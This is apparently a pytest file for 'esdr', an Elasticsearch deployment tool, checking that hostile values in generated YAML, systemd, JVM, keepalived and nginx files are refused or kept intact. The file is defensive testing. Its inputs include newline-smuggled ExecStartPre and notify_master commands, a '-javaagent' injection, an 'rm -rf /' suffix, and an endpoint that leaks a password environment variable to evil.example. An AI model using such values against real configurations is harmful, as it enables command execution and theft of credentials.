"""Hostile values rendered into every format esdr writes, and read back with that format's parser.

Each value either reaches the file intact (the parser reads back exactly it, and the file has
the same keys, directives or blocks as with an ordinary value) or is refused with a BadInput
naming the host and the key. Never a line, setting or block of its own.

Parsers: ``yaml.safe_load`` (and ``yaml.compose`` to see duplicate keys) for elasticsearch.yml
and gateway.yml; ``systemd-analyze verify`` for the units where it is installed (it is on this
machine) plus the unquoting systemd documents for ``Environment=`` and command lines (systemd
has no offline dump of a unit's parsed values); the line rules of Elastic's JVM options files.
Neither ``nginx`` nor ``keepalived`` is installed on this machine (``which`` finds neither), so
their files are parsed here by their documented token rules (words, quotes, ``;``, braces,
comments), and checked by ``nginx -t`` / ``keepalived -t`` only where the binaries exist; the
gateway lab runs both on what it deployed (tests/gateway_lab/test_config_check_lab.py).
"""

from __future__ import annotations

import dataclasses
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

import esdr
from esdr.errors import BadInput
from esdr.gateway.model import GatewayTier
from esdr.gateway.render import gateway_unit, gateway_yml, keepalived_conf, nginx_site
from esdr.model import Topology
from esdr.render import distribution_rewrites, elasticsearch_yml, node_files, render_template
from tests.gateway.factory import tier
from tests.unit.topo_factory import topology

# Values that every format can carry somewhere: quoting, specifiers, variables, comments.
AWKWARD = [
    "50%",
    "%Z %n %%",
    "a b",
    "  padded  ",
    'say "hi"',
    "it's",
    "$HOME ${X} $$",
    "back\\slash",
    "trail\\",
    "#hash",
    "semi;colon",
    "{brace}",
    "}",
    "a: b",
    "- item",
    "é ✓ 😀",
    "",
]
# Values no line-based format can carry: each ends a line (or is a control character).
BREAKING = ["a\nb", "a\rb", "a\x85b", "a\u2028b", "a\x00b", "a\tb", "a\x1bb"]
HOSTILE = AWKWARD + BREAKING
# Values elasticsearch.yml carries but the engine would not keep: it replaces ${...} with an
# environment variable when it starts
# (https://www.elastic.co/guide/en/elasticsearch/reference/current/settings.html).
EXPANDED = [v for v in HOSTILE if "${" in v]


def _ids(values: list[str]) -> list[str]:
    return [repr(v) for v in values]


# --- building blocks ---------------------------------------------------------------------------


def _with_settings(topo: Topology, **settings: Any) -> Topology:
    """``topo`` with cluster settings replaced after loading: the renderer's own defence is
    under test, not the input checks that would refuse most of these values first."""
    cluster = dataclasses.replace(topo.cluster, settings={**topo.cluster.settings, **settings})
    return dataclasses.replace(topo, cluster=cluster)


def _with_node(topo: Topology, host: str, **fields: Any):
    return dataclasses.replace(topo.cluster.node(host), **fields)


def _file(topo: Topology, node, suffix: str) -> str:
    files = node_files(topo, node, bootstrap=True)
    return next(f.content for f in files if f.path.endswith(suffix))


def _refused(excinfo: pytest.ExceptionInfo, host: str, key: str) -> None:
    message = str(excinfo.value)
    assert f"host {host}" in message, message
    assert key in message, message
    assert "\n" not in message


class _NoDuplicates(yaml.SafeLoader):
    """safe_load keeps the last of two equal keys; this one refuses them."""


def _mapping(loader: _NoDuplicates, node: yaml.MappingNode) -> dict:
    keys = [loader.construct_object(k) for k, _ in node.value]
    assert len(keys) == len(set(keys)), f"duplicate keys: {keys}"
    return loader.construct_mapping(node)


_NoDuplicates.add_constructor(yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, _mapping)


def _yaml(text: str) -> Any:
    return yaml.load(text, Loader=_NoDuplicates)  # noqa: S506 (a SafeLoader subclass)


# --- elasticsearch.yml --------------------------------------------------------------------------


def test_hostile_es_settings_keys_and_values_read_back_exactly() -> None:
    values = [v for v in HOSTILE if v not in EXPANDED]
    settings = {f"custom.value{i}": v for i, v in enumerate(values)}
    settings |= {f"custom.key.{v}": i for i, v in enumerate(HOSTILE)}
    settings["custom.list"] = values
    topo = topology(es_settings=settings)
    plain = _yaml(elasticsearch_yml(topology(), topology().cluster.node("d1"), bootstrap=True))

    config = _yaml(elasticsearch_yml(topo, topo.cluster.node("d1"), bootstrap=True))

    assert {k: config[k] for k in settings} == settings
    assert set(config) == set(plain) | set(settings)


def test_a_newline_in_an_es_settings_key_adds_no_setting() -> None:
    """The key ends the line it is on without quoting, and the next line is an owned setting
    that the owned-settings check never saw (it looked at the key as one string)."""
    owned = "xpack.security.transport.ssl.verification_mode"
    hostile = f"logger.x: info\n{owned}"
    topo = topology(es_settings={hostile: "none"})

    text = elasticsearch_yml(topo, topo.cluster.node("d1"), bootstrap=True)
    config = _yaml(text)

    assert config[owned] == "full"
    assert config[hostile] == "none"
    assert [line for line in text.splitlines() if line.startswith(owned)] == [f"{owned}: full"]


@pytest.mark.parametrize("value", HOSTILE, ids=_ids(HOSTILE))
def test_hostile_names_and_paths_read_back_exactly_or_are_refused(value: str) -> None:
    """Node name, cluster name and data path are values; the first two are in comments too."""
    topo = _with_settings(topology(), es_cluster_name=value, es_data_dir=f"/data/{value}")
    topo = dataclasses.replace(topo, cluster=dataclasses.replace(topo.cluster, name=value))
    node = _with_node(topo, "d1", name=value)
    if value in EXPANDED:
        with pytest.raises(BadInput) as excinfo:
            elasticsearch_yml(topo, node, bootstrap=True)
        _refused(excinfo, "d1", "cluster.name")
        return
    if value in BREAKING:
        with pytest.raises(BadInput) as excinfo:
            elasticsearch_yml(topo, node, bootstrap=True)
        _refused(excinfo, "d1", "node name")
        return
    config = _yaml(elasticsearch_yml(topo, node, bootstrap=True))
    assert (config["node.name"], config["cluster.name"]) == (value, value)
    assert config["path.data"] == f"/data/{value}"


# --- jvm.options.d ------------------------------------------------------------------------------


def _jvm_options(text: str) -> list[str]:
    """Elastic's JVM options file: one option per line, '#' comments, blank lines skipped; any
    other line must be an option (it starts with '-')."""
    options = [line for line in text.splitlines() if line.strip() and not line.startswith("#")]
    assert all(line.startswith("-") for line in options), options
    return options


def test_a_newline_in_a_node_name_cannot_add_a_jvm_option() -> None:
    topo = topology()
    node = _with_node(topo, "d1", name="d1\n-javaagent:/tmp/evil.jar")

    with pytest.raises(BadInput) as excinfo:
        render_template("heap.options.j2", where="host d1", node=node)

    _refused(excinfo, "d1", "node name")


@pytest.mark.parametrize("heap", ["4g\n-javaagent:/tmp/evil.jar", "4g\r-Dx", "4g\x85-Dx"])
def test_a_line_break_in_the_heap_is_refused(heap: str) -> None:
    topo = topology()
    node = _with_node(topo, "d1", heap=heap)
    with pytest.raises(BadInput) as excinfo:
        _file(topo, node, ".options")
    _refused(excinfo, "d1", "es_heap")


@pytest.mark.parametrize("value", AWKWARD, ids=_ids(AWKWARD))
def test_awkward_node_names_leave_the_heap_options_two_lines(value: str) -> None:
    node = _with_node(topology(), "d1", name=value)
    options = _jvm_options(render_template("heap.options.j2", where="host d1", node=node))
    assert options == ["-Xms31g", "-Xmx31g"]


# --- the systemd unit ---------------------------------------------------------------------------


def _unit(text: str) -> list[tuple[str, str, str]]:
    """(section, key, raw value) per line, by systemd.syntax(7): '#' and ';' comment lines,
    '[Section]' headers, 'Key=value' with the value taken up to the end of its line."""
    out, section = [], ""
    for line in text.splitlines():
        if not line.strip() or line.startswith(("#", ";")):
            continue
        if line.startswith("["):
            section = line.strip("[]")
            continue
        key, _, value = line.partition("=")
        assert re.fullmatch(r"[A-Za-z]+", key), line
        out.append((section, key, value))
    return out


def _words(raw: str) -> list[str]:
    """Environment= and command lines: specifiers first ("%%" is "%"), then words split with
    double quotes and backslash escapes, which is what shlex's POSIX mode does for the quoting
    esdr writes (double quotes, \\\\ and \\")."""
    return shlex.split(raw.replace("%%", "%"), posix=True)


def _environment(text: str) -> dict[str, str]:
    env: dict[str, str] = {}
    for _, key, raw in _unit(text):
        if key == "Environment":
            for word in _words(raw):
                name, _, value = word.partition("=")
                env[name] = value
    return env


def _exec_start(text: str) -> list[str]:
    raw = next(value for _, key, value in _unit(text) if key == "ExecStart")
    first, *args = _words(raw)
    return [first] + [a.replace("$$", "$") for a in args]  # "$$" is "$" in the arguments only


def _verify(unit_text: str, directory: Path) -> None:
    """``systemd-analyze verify``: any warning about the unit fails (it exits non-zero)."""
    analyze = shutil.which("systemd-analyze")
    if analyze is None:
        pytest.skip("systemd-analyze is not installed")
    path = directory / "elasticsearch.service"
    path.write_text(unit_text)
    result = subprocess.run(
        [analyze, "verify", "--man=no", str(path)],
        capture_output=True, text=True, timeout=60, check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "elasticsearch.service" not in result.stderr, result.stderr


def _installed(root: Path) -> None:
    """An executable where the unit's ExecStart points: verify checks that it exists."""
    binary = root / "current" / "bin" / "elasticsearch"
    binary.parent.mkdir(parents=True)
    binary.write_text("#!/bin/sh\n")
    binary.chmod(0o755)


def test_hostile_unit_values_read_back_exactly_and_verify(tmp_path: Path) -> None:
    environment = {f"ESDR_V{i}": v for i, v in enumerate(AWKWARD)}
    environment["ES_JAVA_OPTS"] = "-Xlog:gc*:file=/var/log/es gc.log -Dp=50%"
    root = tmp_path / "install root %Z $HOME {x} #y ;z"
    _installed(root)
    topo = _with_settings(
        topology(),
        es_service_environment=environment,
        es_java_home="/usr/lib/jvm/java 17 %Z",
        es_install_root=str(root),
        es_conf_dir="/etc/es conf %n",
    )
    topo = dataclasses.replace(topo, cluster=dataclasses.replace(topo.cluster, name="search %Z"))

    unit = _file(topo, topo.cluster.node("d1"), ".service")

    assert _environment(unit) == {
        "ES_PATH_CONF": "/etc/es conf %n",
        "ES_JAVA_HOME": "/usr/lib/jvm/java 17 %Z",
        **environment,
    }
    assert _exec_start(unit) == [f"{root}/current/bin/elasticsearch"]
    assert [k for _, k, _ in _unit(unit)] == [k for _, k, _ in _unit(_plain_unit(environment))]
    _verify(unit, tmp_path)


def _plain_unit(environment: dict[str, str]) -> str:
    topo = _with_settings(
        topology(), es_java_home="/usr/lib/jvm/java-17",
        es_service_environment={k: "x" for k in environment},
    )
    return _file(topo, topo.cluster.node("d1"), ".service")


def test_a_newline_in_a_service_environment_value_is_refused() -> None:
    topo = _with_settings(
        topology(),
        es_service_environment={"ES_JAVA_OPTS": "-Xss1m\nExecStartPre=/bin/touch /tmp/pwned"},
    )
    with pytest.raises(BadInput) as excinfo:
        _file(topo, topo.cluster.node("d1"), ".service")
    _refused(excinfo, "d1", "es_service_environment (ES_JAVA_OPTS)")


@pytest.mark.parametrize("name", ["A B", "A=B", "1X", "A\nExecStartPre=/bin/true", ""])
def test_an_environment_name_that_is_not_one_is_refused(name: str) -> None:
    topo = _with_settings(topology(), es_service_environment={name: "x"})
    with pytest.raises(BadInput) as excinfo:
        _file(topo, topo.cluster.node("d1"), ".service")
    _refused(excinfo, "d1", "es_service_environment")


def test_a_space_in_es_java_opts_and_java_home_stays_in_the_value(tmp_path: Path) -> None:
    """Unquoted, 'Environment=ES_JAVA_OPTS=-Xss1m -Dx=1' sets ES_JAVA_OPTS to '-Xss1m' and a
    second variable '-Dx' (systemd splits at blanks); the JDK path is cut at its space."""
    topo = _with_settings(
        topology(),
        es_service_environment={"ES_JAVA_OPTS": "-Xss1m -Dx=1"},
        es_java_home="/opt/my jdk",
    )
    env = _environment(_file(topo, topo.cluster.node("d1"), ".service"))
    assert env["ES_JAVA_OPTS"] == "-Xss1m -Dx=1"
    assert env["ES_JAVA_HOME"] == "/opt/my jdk"


def test_a_percent_is_not_a_specifier(tmp_path: Path) -> None:
    """systemd expands %n, %H, ... in Description=, Environment= and paths; '%%' is a '%'."""
    root = tmp_path / "es%H"
    _installed(root)
    topo = _with_settings(
        topology(),
        es_service_environment={"ES_JAVA_OPTS": "-XX:MaxRAMPercentage=50%"},
        es_install_root=str(root),
    )
    unit = _file(topo, topo.cluster.node("d1"), ".service")
    assert _environment(unit)["ES_JAVA_OPTS"] == "-XX:MaxRAMPercentage=50%"
    assert f"WorkingDirectory={tmp_path}/es%%H/current" in unit.splitlines()
    _verify(unit, tmp_path)


@pytest.mark.parametrize(
    "settings, key",
    [
        ({"es_user": "elastic search"}, "es_user"),
        ({"es_user": "es\nExecStartPre=/bin/true"}, "es_user"),
        ({"es_install_root": "opt/es"}, "es_install_root"),
        ({"es_install_root": "/opt/it's"}, "es_install_root"),
        ({"es_install_root": "/opt/back\\slash"}, "es_install_root"),
        ({"es_install_root": "/opt/es\nExecStartPre=/bin/true"}, "es_install_root"),
        ({"es_java_home": "/jdk\rExecStartPre=/bin/true"}, "es_java_home"),
        ({"es_conf_dir": "/etc/es\n[Install]"}, "es_conf_dir"),
    ],
)
def test_unit_values_that_cannot_be_written_are_refused(settings: dict, key: str) -> None:
    topo = _with_settings(topology(), **settings)
    with pytest.raises(BadInput) as excinfo:
        _file(topo, topo.cluster.node("d1"), ".service")
    _refused(excinfo, "d1", key)


# --- the gateway tier ---------------------------------------------------------------------------


def _gateway_tier(**front_door: Any) -> GatewayTier:
    model = tier()
    fd = model.front_door
    assert fd is not None
    door = dataclasses.replace(fd, settings={**fd.settings, **front_door})
    return dataclasses.replace(model, front_door=door)


@pytest.mark.parametrize("value", HOSTILE, ids=_ids(HOSTILE))
def test_gateway_yml_reads_back_hostile_values_exactly(value: str) -> None:
    model = tier(
        gateway_data_dir=f"/var/lib/{value}",
        gateway_read_rules=[{"method": [value], "pattern": [f"/{value}"]}],
    )
    clusters = [
        dataclasses.replace(c, endpoints=(f"https://{value}:9200",), username=value)
        for c in model.clusters
    ]
    model = dataclasses.replace(model, clusters=tuple(clusters))

    doc = _yaml(gateway_yml(model, model.host("gw1")))

    assert doc["path.data"] == f"/var/lib/{value}"
    assert [c["endpoints"] for c in doc["elasticsearch"]] == [[f"https://{value}:9200"]] * 2
    if value:  # no user name, no basic_auth
        assert {c["basic_auth"]["username"] for c in doc["elasticsearch"]} == {value}
    rule = doc["router"][0]["rules"][1]  # the first of the read rules, after keepalived's probe
    assert (rule["method"], rule["pattern"]) == ([value], [f"/{value}"])
    assert sorted(doc) == sorted(_yaml(gateway_yml(tier(), tier().host("gw1"))))


def test_a_gateway_value_cannot_ask_infini_for_an_environment_variable() -> None:
    model = tier()
    leak = dataclasses.replace(
        model.clusters[0], endpoints=("https://$[[env.ESDR_GW_DC2_PASSWORD]].evil.example",)
    )
    model = dataclasses.replace(model, clusters=(leak, model.clusters[1]))
    with pytest.raises(BadInput) as excinfo:
        gateway_yml(model, model.host("gw1"))
    _refused(excinfo, "gw1", "endpoints")


def test_the_gateway_unit_quotes_its_paths(tmp_path: Path) -> None:
    model = tier(gateway_conf_dir="/etc/infini gateway %n", gateway_install_root="/opt/gw $x")
    unit = gateway_unit(model, model.host("gw1"))
    words = _exec_start(unit)
    assert words == ["/opt/gw $x/current/gateway-linux-amd64", "-config",
                     "/etc/infini gateway %n/gateway.yml"]
    assert "EnvironmentFile=/etc/infini gateway %%n/gateway.env" in unit.splitlines()


Statement = tuple[str, list[str], "list | None"]


def _tokens(line: str, punctuation: str) -> list[str]:
    """One line's words: blanks split, quotes group, '#' (and keepalived's '!') comment out
    the rest, and ``punctuation`` characters are tokens of their own."""
    lexer = shlex.shlex(line, posix=True, punctuation_chars=punctuation)
    lexer.commenters = "#!" if punctuation == "{}" else "#"
    lexer.wordchars += "./:-,=+$@%&|<>'~*^?" + ("" if punctuation == "{}" else "!")
    return list(lexer)


def _keepalived(text: str) -> list[Statement]:
    """keepalived.conf(5): one statement per line, a line ending in '{' opens a block and a
    lone '}' closes it. (keyword, arguments, the block or None)."""
    stack: list[list[Statement]] = [[]]
    for line in text.splitlines():
        words = _tokens(line, "{}")
        if not words:
            continue
        if words == ["}"]:
            stack.pop()
        elif words[-1] == "{":
            block: list[Statement] = []
            stack[-1].append((words[0], words[1:-1], block))
            stack.append(block)
        else:
            assert "{" not in words and "}" not in words, line
            stack[-1].append((words[0], words[1:], None))
    assert len(stack) == 1, "unbalanced braces"
    return stack[0]


def _nginx(text: str) -> list[Statement]:
    """Nginx's grammar (https://nginx.org/en/docs/beginners_guide.html#conf_structure): words
    up to ';' make a directive, words up to '{' open a block that '}' closes, '#' comments."""
    tokens = [t for line in text.splitlines() for t in _tokens(line, ";{}")]
    stack: list[list[Statement]] = [[]]
    words: list[str] = []
    for token in tokens:
        if token == ";":
            stack[-1].append((words[0], words[1:], None))
            words = []
        elif token == "{":
            block: list[Statement] = []
            stack[-1].append((words[0], words[1:], block))
            stack.append(block)
            words = []
        elif token == "}":
            assert not words, words
            stack.pop()
        else:
            words.append(token)
    assert len(stack) == 1 and not words, "unbalanced braces or an unfinished directive"
    return stack[0]


def _shape(statements: list[Statement]) -> list:
    """Keywords and blocks, without the arguments: what a value must never change."""
    return [(k, _shape(b) if b is not None else None) for k, _, b in statements]


def _find(statements: list[Statement], keyword: str) -> list[Statement]:
    out = []
    for statement in statements:
        if statement[0] == keyword:
            out.append(statement)
        if statement[2] is not None:
            out += _find(statement[2], keyword)
    return out


def _check_with_binary(text: str, tmp_path: Path, kind: str) -> None:
    """The real parser, where it is installed (the gateway lab images have both)."""
    binary = shutil.which(kind)
    if binary is None:
        return
    if kind == "keepalived":
        path = tmp_path / "keepalived.conf"
        path.write_text(text)
        command = [binary, "-t", "-f", str(path)]
    else:
        (tmp_path / "site.conf").write_text(text)
        path = tmp_path / "nginx.conf"
        path.write_text(f"error_log stderr;\npid {tmp_path}/nginx.pid;\nevents {{}}\n"
                        f"http {{ include {tmp_path}/site.conf; }}\n")
        command = [binary, "-t", "-q", "-p", str(tmp_path), "-c", str(path)]
    result = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    output = result.stdout + result.stderr
    if kind == "keepalived" and result.returncode != 0:
        # `keepalived -t` also checks that the interface exists on the machine it runs on:
        # a gateway's interface need not exist here. Anything else it says is a failure.
        other = [line for line in output.splitlines() if line.strip() and not (
            "doesn't exist" in line or "Non-existent interface" in line)]
        assert other == [], output
        return
    assert result.returncode == 0, output


def test_a_newline_in_the_keepalived_interface_cannot_add_a_notify_script() -> None:
    model = _gateway_tier(interface='eth0\n    notify_master "/tmp/evil.sh"')
    with pytest.raises(BadInput) as excinfo:
        keepalived_conf(model, model.host("gw1"))
    _refused(excinfo, "gw1", "interface")


INTERFACES = HOSTILE + ["eth0 eth1", "x" * 16, "..", "eth0/1", "@eth0", "$IF"]
GOOD_INTERFACES = ["eth0.100", "br-lan", "enp0s31f6", "x" * 15]


@pytest.mark.parametrize("value", INTERFACES + GOOD_INTERFACES,
                         ids=_ids(INTERFACES + GOOD_INTERFACES))
def test_keepalived_interface_is_an_interface_name_or_refused(value: str, tmp_path) -> None:
    model = _gateway_tier(interface=value)
    if value in INTERFACES:
        with pytest.raises(BadInput) as excinfo:
            keepalived_conf(model, model.host("gw1"))
        _refused(excinfo, "gw1", "interface")
        return
    text = keepalived_conf(model, model.host("gw1"))
    conf = _keepalived(text)
    assert _shape(conf) == _shape(_keepalived(keepalived_conf(tier(), tier().host("gw1"))))
    assert [args for _, args, _ in _find(conf, "interface")] == [[value]]
    vips = _find(conf, "virtual_ipaddress")[0][2]
    assert [[k, *args] for k, args, _ in vips] == [["10.0.0.100/24", "dev", value]]
    _check_with_binary(text, tmp_path, "keepalived")


def test_keepalived_conf_parses_to_its_blocks(tmp_path: Path) -> None:
    model = tier()
    conf = _keepalived(keepalived_conf(model, model.host("gw1")))
    assert [(k, args) for k, args, _ in conf] == [
        ("global_defs", []),
        ("vrrp_script", ["esdr_gateway_check"]),
        ("vrrp_instance", ["esdr_vip_51"]),
    ]
    script = _find(conf, "script")[0][1]
    assert script == ["/usr/bin/curl -fsS -m 2 --cacert /etc/infini-gateway/ca.crt -o /dev/null "
                      "https://127.0.0.1:8000/_esdr/alive"]
    assert not [k for k, _, _ in _find(conf, "global_defs")[0][2] if k.startswith("notify")]


@pytest.mark.parametrize(
    "settings, key",
    [
        ({"check_interval": "1\n    notify_master /tmp/evil.sh"}, "check_interval"),
        ({"advert_int": "1 }"}, "advert_int"),
        ({"check_rise": True}, "check_rise"),
        ({"check_fall": float("nan")}, "check_fall"),
    ],
)
def test_keepalived_numbers_are_numbers(settings: dict, key: str) -> None:
    model = _gateway_tier(**settings)
    with pytest.raises(BadInput) as excinfo:
        keepalived_conf(model, model.host("gw1"))
    _refused(excinfo, "gw1", key)


@pytest.mark.parametrize("check, key", [("entry", "gateway_entry_port"), ("api", "gateway_api_port")])
def test_keepalived_check_port_cannot_add_words_to_the_script(check: str, key: str) -> None:
    model = _gateway_tier(check=check)
    model = dataclasses.replace(
        model, settings={**model.settings, key: '2900/health" ; rm -rf /'}
    )
    with pytest.raises(BadInput) as excinfo:
        keepalived_conf(model, model.host("gw1"))
    _refused(excinfo, "gw1", "check command")


# --- nginx --------------------------------------------------------------------------------------


def _nginx_tier(**front_door: Any) -> GatewayTier:
    return tier({"kind": "nginx", **front_door}, balancers=(("lb1", "10.0.0.5"),))


@pytest.mark.parametrize("value", HOSTILE + ["20s"], ids=_ids(HOSTILE + ["20s"]))
def test_nginx_values_are_one_word_or_refused(value: str, tmp_path: Path) -> None:
    model = _nginx_tier(fail_timeout=value)
    if value != "20s":
        with pytest.raises(BadInput) as excinfo:
            nginx_site(model, model.host("lb1"))
        _refused(excinfo, "lb1", "fail_timeout")
        return
    text = nginx_site(model, model.host("lb1"))
    site = _nginx(text)
    plain = _nginx(nginx_site(_nginx_tier(), _nginx_tier().host("lb1")))
    assert _shape(site) == _shape(plain)
    servers = [args for _, args, _ in _find(site, "server") if args]
    assert servers == [["10.0.0.11:8000", "max_fails=2", "fail_timeout=20s"],
                       ["10.0.0.12:8000", "max_fails=2", "fail_timeout=20s"]]
    _check_with_binary(text, tmp_path, "nginx")


@pytest.mark.parametrize("value", AWKWARD, ids=_ids(AWKWARD))
def test_an_upstream_name_in_an_nginx_comment_stays_a_comment(value: str) -> None:
    """An upstream that is no gateway host is written by name; a name no address can be is
    refused, and the comment after it never gains a line."""
    model = _nginx_tier(upstreams=["gw1", value])
    try:
        text = nginx_site(model, model.host("lb1"))
    except BadInput as exc:
        assert "host lb1" in str(exc) and "upstreams" in str(exc)
        return
    site = _nginx(text)
    assert [args[0] for _, args, _ in _find(site, "server") if args] == [
        "10.0.0.11:8000", f"{value}:8000"
    ]


def test_a_newline_in_an_upstream_name_is_refused() -> None:
    model = _nginx_tier(upstreams=["gw1", "gw9\n    server 203.0.113.9:80"])
    with pytest.raises(BadInput) as excinfo:
        nginx_site(model, model.host("lb1"))
    _refused(excinfo, "lb1", "upstreams")


# --- every template -----------------------------------------------------------------------------

TEMPLATES = Path(esdr.__file__).resolve().parent / "templates"  # what PackageLoader("esdr") reads
FORMAT_FILTERS = r"comment|yaml_value|systemd|jvm|q|keepalived|nginx"
# Expressions of esdr's own constants, no value from an inventory: nothing to escape.
CONSTANTS = {
    "engine.documentation",
    "'Elastic' if engine.name == 'elasticsearch' else engine.display_name",
    "engine.display_name",
    "engine.config_file",
    "vip.state",
    "servers | length",
    '"nopreempt: whoever holds the address keeps it; every host starts as BACKUP" if '
    'fd["nopreempt"] else "preempt: the highest priority takes the address back when it returns"',
    '" backup" if server.backup else ""',
}


@pytest.mark.parametrize(
    "template", sorted(p.relative_to(TEMPLATES).as_posix() for p in TEMPLATES.rglob("*.j2"))
)
def test_every_template_value_goes_through_its_format_filter(template: str) -> None:
    text = (TEMPLATES / template).read_text()
    unfiltered = [
        expr.strip()
        for expr in re.findall(r"\{\{(.*?)\}\}", text)
        if not re.search(rf"\|\s*({FORMAT_FILTERS})\b|map\(\"q\"", expr)
        and expr.strip() not in CONSTANTS
    ]
    assert unfiltered == []


@pytest.mark.parametrize("address", ["fe80::1%eth0\n    notify_master /tmp/evil.sh",
                                     "fe80::1%eth0", "10.0.0.11 10.0.0.13", "gw2.example"])
def test_a_keepalived_peer_is_one_ip_address(address: str) -> None:
    """Python's ipaddress accepts an IPv6 scope holding any character, a newline too."""
    model = tier(gateways=(("gw1", "10.0.0.11"), ("gw2", address)))
    with pytest.raises(BadInput) as excinfo:
        keepalived_conf(model, model.host("gw1"))
    _refused(excinfo, "gw1", "peer gateway address")


@pytest.mark.parametrize("key", ["es_log_dir", "es_data_dir"])
def test_opensearch_jvm_options_rewrites_refuse_a_line_break(key: str) -> None:
    """OpenSearch's copied jvm.options gets the log and data paths written into its lines."""
    from tests.unit.test_opensearch_engine import os_topology

    topo = _with_settings(os_topology(), **{key: "/var/x\n-javaagent:/tmp/evil.jar"})
    with pytest.raises(BadInput, match=rf"jvm.options: {key} holds the character U\+000A"):
        distribution_rewrites(topo.cluster)
    assert distribution_rewrites(_with_settings(os_topology(), **{key: "/var/my dir %"}).cluster)
